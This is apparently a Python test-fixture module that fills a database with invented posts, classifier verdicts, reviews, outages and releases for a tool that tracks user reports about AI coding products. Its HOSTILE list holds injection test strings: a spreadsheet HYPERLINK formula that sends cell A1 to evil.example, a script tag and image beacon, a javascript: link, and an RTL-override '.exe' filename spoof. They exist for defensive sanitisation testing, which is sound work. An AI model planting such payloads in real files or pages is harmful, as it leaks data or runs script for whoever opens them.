"""A database with a few hundred invented posts, the same for the same seed.

Every reader's test stands on it: two sources, several products, all decisions and abstentions,
edited and deleted posts, hostile texts, a review, outages, gaps, releases and runs.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

from sqlalchemy import Engine, insert

from db import blocks, gaps, incidents, runs, verdicts
from db.engine import write
from db.judges import Judges, know, show
from db.posts import save_places, save_posts, save_threads
from db.tables import DrawRow, OutageRow, ReleaseRow, ReviewRow, SampleRow
from domain.causes import Abstention, Cause, Decision
from domain.keyed import Keyed
from domain.nouns import (
    Address,
    Evidence,
    Fact,
    Frame,
    Incident,
    Place,
    Post,
    PostState,
    RunReport,
    SourceReport,
    Span,
    Thread,
    Verdict,
)

MODEL = "seeded-model-1"
JUDGES = Judges.only(MODEL)
KEYED = Keyed(b"a key for tests, never for data.")
FIRST = datetime(2026, 4, 6, 0, 30, tzinfo=UTC)

PLACES = (
    Place(name="github:anthropics/claude-code", source="github", frame=Frame.ALL_POSTS),
    Place(name="github:openai/codex", source="github", frame=Frame.ALL_POSTS),
    Place(name="hackernews:Claude", source="hackernews", frame=Frame.PRODUCT_QUERY, query="Claude"),
    Place(
        name="hackernews:ChatGPT", source="hackernews", frame=Frame.PRODUCT_QUERY, query="ChatGPT"
    ),
)
PRODUCTS = {
    PLACES[0].name: ("Claude Code",),
    PLACES[1].name: ("Codex",),
    PLACES[2].name: ("Claude",),
    PLACES[3].name: ("ChatGPT",),
}

# (decision, title, text, quote for it, cue); each text is ours.
SAYINGS: tuple[tuple[Decision, str, str, str, str], ...] = (
    (
        Decision.CONTEXT_LIMIT,
        "Prompt is too long after one file",
        "I opened one log file and it said prompt is too long. Compacting did not help, the "
        "window filled up again within a minute.",
        "prompt is too long",
        "error:prompt_too_long",
    ),
    (
        Decision.SAFETY_TRIGGER,
        "Refuses to read our own firewall rules",
        "It answered that this request violates the usage policy, for a config file of our own "
        "router. Asked twice, the same words both times.",
        "violates the usage policy",
        "error:usage_policy",
    ),
    (
        Decision.SESSION_MANAGEMENT,
        "Resume opens an empty list",
        "After the update my history is gone. The transcripts are still on the disk but resume "
        "shows nothing at all.",
        "my history is gone",
        "history_gone",
    ),
    (
        Decision.OTHER,
        "Weekly limit reached on Tuesday",
        "The weekly limit was reached after two short tasks and support has not answered.",
        "weekly limit",
        "usage_quota",
    ),
    (
        Decision.UNDETERMINED,
        "It deleted four hours of work",
        "It simply deleted four hours of research and then acted as if nothing had happened.",
        "deleted four hours",
        "work_lost",
    ),
    (
        Decision.NOT_A_REPORT,
        "Which notes do you keep?",
        "A question to people who work on long projects: what do you write down every day?",
        "",
        "",
    ),
)
WEIGHTS = (5, 3, 6, 8, 2, 60)

# Texts that a page, a sheet or a search must survive; each is the text of one report.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open") my history is gone',
    "<script>document.title='owned'</script><img src=http://evil.example/x.png> my history is gone",
    "![x](http://evil.example/y.png) [click](javascript:alert(1)) my history is gone `code` $x^2$",
    "\u202egnp.exe\u202c my history is gone \x1b[31mred\x1b[0m end",
    "Résumé fails 100% of the time_with\\odd signs, my history is gone",
)


@dataclass(frozen=True, slots=True)
class Seeded:
    """What was filled in."""

    posts: tuple[Post, ...]
    verdicts: tuple[Verdict, ...]
    now: datetime

    def keys(self, decision: Decision) -> list[str]:
        """Posts that the model gave this decision."""
        return [v.post for v in self.verdicts if v.decision is decision]


def fill(engine: Engine, *, posts: int = 300, days: int = 150, seed: int = 7) -> Seeded:
    """Fills an empty, migrated database; about two fifths of the posts are reports."""
    dice = random.Random(seed)
    now = FIRST + timedelta(days=days)
    threads: dict[str, Thread] = {}
    made = [_post(dice, number, days, threads) for number in range(posts)]
    made += [_hostile(number, text, threads) for number, text in enumerate(HOSTILE)]
    judged = [_verdict(dice, post) for post in made]
    number = runs.begin(engine, "ingest", now - timedelta(hours=2))
    with write(engine) as connection:
        save_places(connection, PLACES)
        save_threads(connection, list(threads.values()), now)
        save_posts(connection, made, now, KEYED)
        gaps.begin(connection, PLACES[1].name, now - timedelta(days=40), "the source said no (403)")
        gaps.end(connection, PLACES[1].name, now - timedelta(days=36))
        blocks.save(
            connection, "ab" * 32, 0, format="hn", read=120, unreadable=1, last=True, now=now
        )
        connection.execute(insert(OutageRow), [_outage(made[0])])
        if releases := _releases(now.date()):
            connection.execute(insert(ReleaseRow), releases)
    runs.finish(engine, number, _ingest_report(now))
    number = runs.begin(engine, "classify", now - timedelta(hours=1))
    with write(engine) as connection:
        know(connection, MODEL, {"name": "seeded"}, now)
        show(connection, JUDGES, now)
        verdicts.save_verdicts(connection, judged, {p.key: p.written_at.date() for p in made})
        grouped = tuple(v.post for v in judged if v.decision is Decision.SESSION_MANAGEMENT)[:4]
        by_time = sorted(grouped, key={p.key: p.written_at for p in made}.__getitem__)
        incident = Incident(key=by_time[0], members=tuple(by_time))
        incidents.save_incidents(connection, MODEL, by_time, [incident])
    runs.finish(engine, number, _done("classify", now, {"judged": len(judged)}))
    return Seeded(tuple(made), tuple(judged), now)


def review(engine: Engine, post: str, decision: Decision, reviewer: str = "Ada") -> None:
    """A person's decision about the first version of `post`."""
    with write(engine) as connection:
        connection.execute(
            insert(ReviewRow),
            {
                "post": post,
                "version": 1,
                "decision": decision.value,
                "secondary": None,
                "reviewer": reviewer,
                "blind": True,
                "stream": "audit",
                "note": "",
                "decided_at": datetime(2026, 11, 1, tzinfo=UTC),
                "replaced": False,
            },
        )


def draw(engine: Engine, *posts: str, stream: str = "audit", chance: float | None = 0.5) -> None:
    """Puts posts into a sample, as one drawing would."""
    at = datetime(2026, 10, 1, tzinfo=UTC)
    drawing = {"stream": stream, "seed": 0, "model": MODEL, "at": at, "posts": len(posts)}
    with write(engine) as connection:
        made = insert(DrawRow).returning(DrawRow.number)
        number = connection.execute(made, drawing | {"strata": {}}).scalar_one()
        row = {"stream": stream, "draw": number, "version": 1, "stratum": "all", "chance": chance}
        rows = [row | {"post": p, "position": n, "drawn_at": at} for n, p in enumerate(posts)]
        connection.execute(insert(SampleRow), rows)


def saying(post: Post) -> tuple[Decision, str, str, str, str]:
    """The one of `SAYINGS` that the post was made from."""
    return next((s for s in SAYINGS if s[2] in post.text), SAYINGS[2])


def _post(dice: random.Random, number: int, days: int, threads: dict[str, Thread]) -> Post:
    place = dice.choice(PLACES)
    said = dice.choices(SAYINGS, WEIGHTS)[0]
    written = FIRST + timedelta(days=dice.randrange(days), minutes=dice.randrange(1380))
    older = [t for t in threads.values() if t.place == place.name and t.opened_at < written]
    reply = bool(older) and dice.random() < 0.4
    if reply:
        thread = dice.choice(older)
    else:
        thread = Thread(
            key=f"{'aa'}{number:022x}", place=place.name, title=said[1], opened_at=written
        )
        threads[thread.key] = thread
    key = f"{number:024x}"
    url = f"https://example.org/{place.source}/{number}"
    return Post(
        key=key,
        thread=thread.key,
        parent="00" + thread.key[2:] if reply else None,
        place=place.name,
        kind="comment" if reply else ("issue" if place.source == "github" else "story"),
        author=f"{dice.randrange(posts_authors(days)):024x}",
        title="" if reply else said[1],
        text=said[2],
        raw_hash=f"{number + 1:024x}",
        written_at=written,
        state=PostState.LIVE,
        depth=int(reply),
        products=PRODUCTS[place.name],
        address=Address(external_id=str(number), url=url) if number % 10 else None,
    )


def posts_authors(days: int) -> int:
    """How many people write in so many days: enough to meet some of them again."""
    return 40 + days


def _hostile(number: int, text: str, threads: dict[str, Thread]) -> Post:
    written = FIRST + timedelta(days=100 + number)
    key = f"ff{number:022x}"
    thread = Thread(key=key, place=PLACES[0].name, title=text, opened_at=written)
    threads[key] = thread
    return Post(
        key=key,
        thread=key,
        parent=None,
        place=PLACES[0].name,
        kind="issue",
        author=None,
        title=text,
        text=text,
        raw_hash=key,
        written_at=written,
        products=("Claude Code",),
        address=Address(external_id=key, url=f"https://example.org/hostile/{number}"),
    )


def _verdict(dice: random.Random, post: Post) -> Verdict:
    decision, _title, _text, quote, cue = saying(post)
    report = 0.02 if decision is Decision.NOT_A_REPORT else dice.uniform(0.7, 0.99)
    lead = None if decision is Decision.NOT_A_REPORT else _likely(decision)
    causes = {c: round(report * (0.9 if c is lead else 0.06), 4) for c in Cause}
    undetermined = decision is Decision.UNDETERMINED
    return Verdict(
        post=post.key,
        version=1,
        model=MODEL,
        report_probability=round(report, 4),
        causes=causes,
        likely_cause=lead,
        decision=decision,
        abstained_because=Abstention.NO_MECHANISM_NAMED if undetermined else None,
        language="en",
        evidence=_evidence(post, quote, lead, cue),
        facts=_facts(dice, post, decision),
    )


def _likely(decision: Decision) -> Cause:
    return Cause.SESSION_MANAGEMENT if decision is Decision.UNDETERMINED else Cause(decision.value)


def _evidence(post: Post, quote: str, lead: Cause | None, cue: str) -> tuple[Evidence, ...]:
    if not quote or lead is None:
        return ()
    at = post.text.index(quote)
    spoken = Span(field="text", start=at, end=at + len(quote))
    first_word = Span(field="text", start=0, end=len(post.text.split()[0]))
    return (
        Evidence(span=spoken, cause=lead, direction="for", cue=cue, weight=2.1),
        Evidence(
            span=first_word,
            cause=Cause.CONTEXT_LIMIT if lead is not Cause.CONTEXT_LIMIT else Cause.OTHER,
            direction="against",
            cue="opening",
            weight=-0.4,
        ),
    )


def _facts(dice: random.Random, post: Post, decision: Decision) -> tuple[Fact, ...]:
    if decision is Decision.NOT_A_REPORT:
        return ()
    found = [Fact(name="surface", value=dice.choice(("cli", "web", "mobile")), span=None)]
    if dice.random() < 0.5:
        found.append(Fact(name="version", value=dice.choice(("2.1.89", "2.1.101")), span=None))
    if decision is Decision.SESSION_MANAGEMENT:
        found.append(Fact(name="symptom", value="conversation_gone", span=None))
        found.append(Fact(name="severity", value="hours_lost", span=None))
        found.append(Fact(name="outcome", value="lost", span=None))
    if decision is Decision.SAFETY_TRIGGER:
        found.append(Fact(name="safety_kind", value="refusal", span=None))
    if decision is Decision.OTHER:
        found.append(Fact(name="safety_kind", value="account_action", span=None))
        found.append(Fact(name="plan", value="max", span=None))
    return tuple(found)


def _outage(post: Post) -> dict[str, object]:
    return {
        "key": "outage-1",
        "vendor": "Anthropic",
        "product": post.products[0],
        "name": "Elevated errors",
        "impact": "major",
        "started_at": post.written_at - timedelta(hours=3),
        "resolved_at": post.written_at - timedelta(hours=1),
        "url": "https://status.example.org/1",
    }


def _releases(until: date) -> list[dict[str, object]]:
    known = (
        ("training", "safety_training", "Anthropic", "unknown", "Reasons, not rules", None, 30),
        ("model-a", "model_release", "Anthropic", "Claude Code", "A larger window", 60, 60),
        ("memory", "context_feature", "OpenAI", "ChatGPT", "Memory over chats", 80, 78),
        ("policy", "policy", "OpenAI", "Codex", "Policy on security work", None, 120),
    )
    made = []
    for name, kind, vendor, product, title, deployed, announced in known:
        day = FIRST.date() + timedelta(days=announced)
        if day > until:
            continue
        made.append(
            {
                "id": f"seeded-{name}",
                "announced": day,
                "date_precision": "day",
                "deployed": FIRST.date() + timedelta(days=deployed) if deployed else None,
                "vendor": vendor,
                "product": product,
                "affects": product,
                "kind": kind,
                "title": title,
                "claimed_effect": "Fewer failures, says the vendor." if deployed else "",
                "source_url": f"https://vendor.example.org/{name}",
                "source_title": title,
                "confidence": "high",
                "note": "",
            }
        )
    return made


def _ingest_report(now: datetime) -> RunReport:
    return RunReport(
        stage="ingest",
        started_at=now - timedelta(hours=2),
        finished_at=now - timedelta(hours=1, minutes=50),
        outcome="partly",
        counts={"posts_new": 300},
        sources=(
            SourceReport(source="github", outcome="failed", requests=3, message="HTTP 403: limit"),
            SourceReport(source="hackernews", outcome="done", requests=40, posts_new=160),
        ),
        message="1 of 2 sources failed.",
    )


def _done(stage: str, now: datetime, counts: dict[str, int]) -> RunReport:
    return RunReport(
        stage=stage,
        started_at=now - timedelta(hours=1),
        finished_at=now,
        outcome="done",
        counts=counts,
    )
